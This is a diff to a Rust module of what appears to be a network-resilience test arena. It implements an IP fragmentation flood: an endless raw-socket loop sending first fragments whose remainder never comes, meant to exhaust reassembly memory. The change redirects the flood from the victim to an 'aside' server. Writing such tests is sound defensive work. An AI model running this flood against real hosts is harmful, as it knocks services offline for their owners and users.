@@ -1,5 +1,5 @@
-//! First fragments of datagrams whose rest never comes: an entry each for whoever remembers them. The victim's own fragmented
-//! datagrams must arrive.
+//! First fragments of datagrams whose rest never comes: an entry each for whoever remembers them. They go to another server than the
+//! victim's, whose own memory for reassembly is not ours to share. The victim's own fragmented datagrams must arrive.
 
 use crate::fair::arena::{Arena, ECHO, Way};
 use crate::fair::{Assault, Attack};
@@ -27,17 +27,17 @@ const BYTES: usize = 2_000;
 const DATAGRAMS: usize = 20;
 
 fn work(assault: &Assault) -> Result<()> {
-    let to = SocketAddr::new(assault.to.ip(), 0);
+    let to = SocketAddr::new(assault.aside.ip(), 0);
     let own = {
         let probe = UdpSocket::bind(if to.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" })?;
-        probe.connect(assault.to)?;
+        probe.connect(assault.aside)?;
         probe.local_addr()?.ip()
     };
     let socket = Socket::new(Domain::for_address(to), Type::RAW, Some(Protocol::from(IPPROTO_RAW)))?;
     let mut number = 0_u32;
     while assault.goes_on() {
         number = number.wrapping_add(1);
-        let packet = first_fragment(own, assault.to, number).context("two families")?;
+        let packet = first_fragment(own, assault.aside, number).context("two families")?;
         // A full queue of the device is no end of the attack.
         let _sent = socket.send_to(&packet, &to.into());
     }
